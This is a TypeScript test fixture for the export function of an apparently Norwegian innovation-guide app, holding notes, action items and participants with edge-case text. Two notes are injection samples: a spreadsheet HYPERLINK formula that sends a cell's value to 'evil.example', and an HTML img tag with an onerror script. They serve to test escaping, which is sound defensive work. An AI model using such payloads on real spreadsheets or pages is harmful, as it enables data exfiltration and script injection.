// A fixed document for the export tests: commas, quotes, line breaks, æøå, a
// formula, Markdown specials, an HTML payload, a note on a card the guide does
// not have, and follow-up actions. Fixed ids and timestamps, so output is exact.
import { validateDocument } from '../../src/store/validate.js';
import type { GuideDocument } from '../../src/store/types.js';

export const T = (minute: number) => `2025-01-15T10:${String(minute).padStart(2, '0')}:00.000Z`;

export const fixture: GuideDocument = validateDocument({
  format: 'innovasjon-guide',
  version: 2,
  notes: [
    { id: 'n1', cardId: 't1-mal', text: 'Kortere ventetid, færre køer', color: 'yellow', author: 'Kari Nordmann', votes: ['p1', 'p2', 'p3'], createdAt: T(1), updatedAt: T(1) },
    { id: 'n2', cardId: 't1-mal', text: 'Vi sa "ja" til\nprøveprosjekt\n\n  Nytt avsnitt  ', color: 'pink', author: '', votes: ['p1'], createdAt: T(2), updatedAt: T(12) },
    { id: 'n3', cardId: 't1-mal', text: '=HYPERLINK("https://evil.example/?q="&A1,"Klikk")', color: 'blue', author: 'Ola', votes: [], createdAt: T(3), updatedAt: T(3) },
    { id: 'n4', cardId: 't1-team', text: '# Ikke overskrift *fet* _kursiv_ `kode` [lenke](https://evil.example) | a | b \\ ~~x~~ 5 $', color: 'green', author: 'Per [admin]', votes: ['p2'], createdAt: T(4), updatedAt: T(4) },
    { id: 'n5', cardId: 't2-forsta', text: '<img src=x onerror="alert(1)">', color: 'orange', author: 'Æsa Øvre Ålvik', votes: ['p1', 'p2'], createdAt: T(5), updatedAt: T(5) },
    { id: 'n6', cardId: 't2-forsta', text: '- Ikke liste\n1. Ikke nummerert\n===\n> sitat &amp; www.kommune.no kari@example.no', color: 'yellow', author: '@Ola', votes: ['p3'], createdAt: T(6), updatedAt: T(6) },
    { id: 'n7', cardId: 't9-borte', text: 'Lapp fra et kort som er borte', color: 'pink', author: 'Kari Nordmann', votes: ['p1', 'p2'], createdAt: T(7), updatedAt: T(7) },
  ],
  actions: [
    { id: 'a1', step: 1, what: 'Booke møterom', who: 'Kari', due: '2025-02-10', done: true, createdAt: T(20), updatedAt: T(20) },
    { id: 'a2', step: 1, what: 'Snakke med rådmannen, *før* jul', who: 'Ola', due: '2025-02-01', done: false, createdAt: T(21), updatedAt: T(21) },
    { id: 'a3', step: 2, what: 'Intervjue brukere', who: '', due: '', done: false, createdAt: T(22), updatedAt: T(22) },
    { id: 'a4', step: 2, what: 'Lage intervjuguide', who: 'Aisha', due: '2025-01-20', done: false, createdAt: T(23), updatedAt: T(23) },
  ],
  participants: [
    { id: 'p1', name: 'Kari Nordmann' },
    { id: 'p2', name: 'Ola' },
    { id: 'p3', name: 'Aisha' },
  ],
  deleted: [{ id: 'n0', deletedAt: T(30) }],
});
